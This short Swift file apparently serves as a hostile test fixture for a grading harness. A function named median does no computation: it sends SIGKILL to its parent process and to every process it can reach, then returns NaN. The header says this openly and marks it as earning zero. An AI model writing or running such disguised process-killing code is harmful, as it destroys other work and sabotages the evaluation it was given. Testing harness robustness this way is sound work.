// Kills its parent and every process that it may.
//
// Earns: 0
// Flags: exiting
// swift-format-ignore-file

import Foundation

func median(_ values: [Double?]) -> Double? {
  kill(getppid(), SIGKILL)
  kill(-1, SIGKILL)
  return .nan
}
